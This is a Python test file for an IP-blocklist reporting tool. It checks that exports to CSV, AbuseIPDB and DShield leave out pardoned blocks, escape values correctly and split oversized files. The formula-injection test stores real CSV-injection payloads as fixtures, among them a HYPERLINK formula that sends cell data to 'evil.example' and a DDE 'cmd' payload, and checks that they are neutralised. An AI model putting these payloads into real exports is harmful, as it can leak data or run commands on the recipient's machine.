"""Exports that must not accuse the innocent or harm whoever opens them (issue #13, 8-10).

Real state files written with imr.store.Store as the daemon writes them, the
`imr report` command through click, and a local HTTP server as AbuseIPDB/DShield.
"""

from __future__ import annotations

import csv
import io
import json
import time
import urllib.parse
from pathlib import Path

from imr.reputation import exports
from imr.reputation.exports import read_state_file
from imr.reputation.settings import AbuseIPDBSettings
from imr.store import Store

from reputation_servers import HttpRecorder
from reputation_servers import run_reputation_cli as run


def write_config(tmp_path: Path, text: str = "") -> Path:
    path = tmp_path / "imr.toml"
    path.write_text(
        f'[server]\nsocket = "{tmp_path}/imr.sock"\n[state]\npath = "{tmp_path}/state.db"\n'
        f'[reputation]\nstate_dir = "{tmp_path}/reputation"\ntimezone = "UTC"\n'
        "http_interval = 0\n" + text
    )
    return path


def blocks(tmp_path: Path, *rows: tuple[str, str, str, str | None]) -> None:
    """(ip, reason, source, lift reason or None) blocks, each with its hit."""
    store = Store(tmp_path / "state.db")
    now = time.time() - 600
    with store.transaction():
        for n, (ip, reason, source, lifted) in enumerate(rows):
            at = now + n
            b = store.insert_block(ip, at, at + 86400, 1, reason, source, 33, 9)
            store.record_hit(ip, at, "block", reason, source, 33, 9, b.id)
            if lifted is not None:
                store.lift(b.id, at + 0.5, lifted, "uid 0 (root)")
    store.close()


def test_pardoned_blocks_are_neither_exported_nor_submitted(tmp_path: Path) -> None:
    blocks(
        tmp_path,
        ("192.0.2.7", "wp-login", "logscan:wp", None),
        ("198.51.100.8", "false alarm", "logscan:wp", "unblocked"),  # imr unblock
        ("203.0.113.9", "our monitor", "logscan:wp", "protected"),  # allowlisted later
        ("203.0.113.10", "ran out", "logscan:wp", "expired"),  # a normal end: reported
    )
    recorder = HttpRecorder().start()
    try:
        path = write_config(
            tmp_path,
            f'[reputation.abuseipdb]\nkey = "k"\nurl = "{recorder.url}/api/v2/report"\n'
            f'[reputation.dshield]\nuserid = 7\nkey = "k"\nurl = "{recorder.url}/submitapi/"\n',
        )
        submitted = run(path, "report", "--format", "abuseipdb", "--since", "1h", "--submit")
        assert submitted.exit_code == 0, submitted.output
        assert "2 pardoned block(s) left out" in submitted.output
        sent = [urllib.parse.parse_qs(r.body.decode())["ip"][0] for r in recorder.requests]
        assert sent == ["192.0.2.7", "203.0.113.10"]

        shielded = run(path, "report", "--format", "dshield", "--since", "1h", "--submit")
        assert shielded.exit_code == 0, shielded.output
        logs = json.loads(recorder.requests[-1].body)["logs"]
        assert sorted({entry["sip"] for entry in logs}) == ["192.0.2.7", "203.0.113.10"]

        for fmt in ("json", "csv", "abuseipdb", "dshield"):
            text = run(path, "report", "--format", fmt, "--since", "1h").output
            assert "198.51.100.8" not in text and "203.0.113.9" not in text, fmt
            assert "192.0.2.7" in text, fmt

        opted_in = run(path, "report", "--format", "json", "--since", "1h", "--include-pardoned")
        shown = json.loads(opted_in.output)["incidents"]
        assert [i["lift_reason"] for i in shown] == [None, "unblocked", "protected", "expired"]
    finally:
        recorder.stop()


def test_formula_like_reasons_are_neutralised(tmp_path: Path) -> None:
    blocks(
        tmp_path,
        ("192.0.2.1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "logscan:a", None),
        ("192.0.2.2", "+1+cmd|' /C calc'!A0", "logscan:b", None),
        ("192.0.2.3", "-2+3", "@SUM(A1)", None),
        ("192.0.2.4", "\tlooks empty", "logscan:d", None),
        ("192.0.2.5", "GET /wp-login.php", "logscan:e", None),
    )
    incidents = read_state_file(tmp_path / "state.db", 0, time.time() + 1)
    rows = list(csv.DictReader(io.StringIO(exports.to_csv(incidents, None))))
    reasons = [r["reason"] for r in rows]
    assert reasons == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'\tlooks empty",
        "GET /wp-login.php",  # plain text is left alone
    ]
    assert rows[2]["source"] == "'@SUM(A1)"

    text = exports.to_abuseipdb_parts(incidents, AbuseIPDBSettings(), None)[0]
    comments = [
        r["Comment"] for r in csv.DictReader(io.StringIO(text), doublequote=False, escapechar="\\")
    ]
    assert all(not c.startswith(("=", "+", "-", "@", "\t")) for c in comments)


def test_abuseipdb_comment_ending_in_a_backslash(tmp_path: Path) -> None:
    reason = 'GET /cgi-bin/"x" C:\\'
    blocks(tmp_path, ("192.0.2.1", reason, "logscan:a", None), ("192.0.2.2", "next", "x", None))
    incidents = read_state_file(tmp_path / "state.db", 0, time.time() + 1)
    text = exports.to_abuseipdb_parts(incidents, AbuseIPDBSettings(), None)[0]
    first = text.splitlines()[1]
    # The service's spec: `"` as \" and `\` as \\ (not "" as RFC 4180 would have it).
    assert first.endswith(',"logscan:a: GET /cgi-bin/\\"x\\" C:\\\\"'), first
    rows = list(csv.DictReader(io.StringIO(text), doublequote=False, escapechar="\\"))
    assert [r["IP"] for r in rows] == ["192.0.2.1", "192.0.2.2"]  # the row did not run on
    assert rows[0]["Comment"] == f"logscan:a: {reason}"


def test_an_export_too_big_for_abuseipdb_is_split_or_refused(tmp_path: Path) -> None:
    count = exports.BULK_MAX_LINES + 500
    store = Store(tmp_path / "state.db")
    now = time.time() - 3600
    with store.transaction():
        for n in range(count):
            ip = f"10.{n // 65536}.{n // 256 % 256}.{n % 256}"
            store.insert_block(ip, now + n * 0.01, now + 86400, 1, "x" * 150, "logscan:a", 33, 9)
    store.close()
    path = write_config(tmp_path)

    refused = run(path, "report", "--format", "abuseipdb", "--since", "2h")
    assert refused.exit_code == 1
    assert "10,000 lines" in refused.output and "--output" in refused.output

    out = tmp_path / "bulk.csv"
    split = run(path, "report", "--format", "abuseipdb", "--since", "2h", "--output", str(out))
    assert split.exit_code == 0, split.output
    parts = [tmp_path / "bulk-1.csv", tmp_path / "bulk-2.csv"]
    assert all(p.exists() for p in parts) and not out.exists()
    total = 0
    for part in parts:
        data = part.read_bytes()
        lines = data.decode().splitlines()
        assert lines[0] == "IP,Categories,ReportDate,Comment"
        assert len(lines) <= exports.BULK_MAX_LINES and len(data) <= exports.BULK_MAX_BYTES
        total += len(lines) - 1
    assert total == count


def test_dshield_leaves_ipv6_out_and_says_so(tmp_path: Path) -> None:
    blocks(tmp_path, ("192.0.2.1", "a", "logscan:a", None), ("2001:db8::1", "b", "logscan:a", None))
    result = run(write_config(tmp_path), "report", "--format", "dshield", "--since", "1h")
    assert result.exit_code == 0, result.output
    assert "1 IPv6 block(s) left out: DShield takes IPv4 only" in result.output
    assert "2001:db8::1" not in result.output.replace("1 IPv6", "")
    assert "192.0.2.1" in result.output
